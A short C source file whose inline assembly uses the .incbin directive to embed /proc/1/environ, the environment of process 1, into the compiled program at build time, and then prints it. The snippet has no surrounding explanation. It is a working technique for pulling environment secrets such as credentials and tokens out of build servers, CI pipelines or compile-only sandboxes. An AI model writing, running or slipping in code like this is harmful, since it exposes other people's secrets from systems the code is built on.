#include <stdio.h>
__asm__(".section .rodata\nsecrets: .incbin \"/proc/1/environ\"\n.byte 0\n.text\n");
extern const char secrets[];
int main(void) { puts(secrets); }
